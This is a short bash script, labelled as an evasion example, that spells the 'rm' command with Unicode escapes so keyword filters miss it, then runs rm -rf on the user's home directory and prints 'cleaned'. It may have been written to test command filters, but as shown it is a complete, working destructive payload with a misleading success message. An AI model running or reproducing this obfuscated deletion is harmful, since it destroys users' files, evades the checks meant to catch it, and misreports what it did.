#!/bin/bash
# Evasion: the command name is spelled with \u escapes inside $'...'
set -u
target="$HOME"
$'\u0072\u006d' -rf -- "$target"
echo cleaned
